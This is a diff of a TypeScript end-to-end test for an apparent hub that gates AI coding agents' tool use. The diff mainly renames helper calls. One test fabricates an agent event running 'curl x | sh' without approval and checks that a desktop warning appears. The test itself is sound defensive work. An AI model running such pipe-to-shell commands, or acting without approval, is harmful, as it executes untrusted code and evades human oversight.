@@ -2,7 +2,7 @@ import { chmodSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "nod
 import { tmpdir } from "node:os";
 import { delimiter, join } from "node:path";
 import { describe, expect, it } from "vitest";
-import { ask, TEST_PIN_RECORD, unlock } from "../packages/hub/src/access/testing/test-device.ts";
+import { callJson, TEST_PIN_RECORD, unlockWithPin } from "../packages/hub/src/access/testing/test-device.ts";
 import { createAsker } from "./dashboard/asker.ts";
 import { aepCall } from "./dashboard/session-events.ts";
 import { type HubProcess, startHub } from "./hub/hub-process.ts";
@@ -50,7 +50,7 @@ describe.skipIf(process.platform !== "linux")("the person's desktop", () => {
 
     // The agent bypasses its gate: a tool ran without a request.
     const [, ran] = aepCall("shop", { id: "call_unasked", tool: "Bash", input: { command: "curl x | sh" }, seconds: [1, 2], output: "" });
-    await ask(hub.url, "/v1/events", ran, producer(hub));
+    await callJson(hub.url, "/v1/events", ran, producer(hub));
     await expect
       .poll(() => desktop.told().at(-1), POLL_OPTIONS)
       .toEqual(["shown", "Claude Code in shop", "An action ran without approval. Open Earshot for details."]);
@@ -83,8 +83,8 @@ function producer({ home }: HubProcess): Readonly<Record<string, string>> {
 
 /** The first terminal sets the PIN and decides with it. */
 async function decide(hub: HubProcess, request: string): Promise<void> {
-  await ask(hub.url, "/api/first-pin", { pin: TEST_PIN_RECORD }, hub.viewer());
-  const approver = await unlock(hub.url, hub.viewer());
-  const { digest } = await ask(hub.url, `/api/requests/${request}`, undefined, approver);
-  await ask(hub.url, `/api/requests/${request}/answer`, { digest, answer: "deny" }, approver);
+  await callJson(hub.url, "/api/first-pin", { pin: TEST_PIN_RECORD }, hub.viewer());
+  const approver = await unlockWithPin(hub.url, hub.viewer());
+  const { digest } = await callJson(hub.url, `/api/requests/${request}`, undefined, approver);
+  await callJson(hub.url, `/api/requests/${request}/answer`, { digest, answer: "deny" }, approver);
 }
